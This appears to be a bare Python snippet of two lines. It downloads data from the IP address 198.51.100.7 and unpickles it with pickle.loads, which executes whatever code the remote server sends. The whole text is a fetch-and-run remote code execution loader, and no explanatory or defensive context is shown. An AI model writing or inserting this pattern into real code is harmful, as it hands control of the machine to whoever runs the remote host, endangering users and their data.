import pickle, requests
pickle.loads(requests.get('http://198.51.100.7/a').content)
